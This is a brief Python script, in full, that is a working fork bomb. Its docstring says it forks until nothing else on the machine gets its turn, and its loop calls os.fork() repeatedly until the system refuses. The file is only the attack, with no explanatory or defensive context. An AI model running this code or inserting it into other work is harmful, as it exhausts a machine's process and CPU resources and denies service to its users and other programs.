"""Forks until nothing else on the machine gets its turn."""

import os

try:
    while os.fork() >= 0:
        pass
except OSError as error:
    print("refused", error)
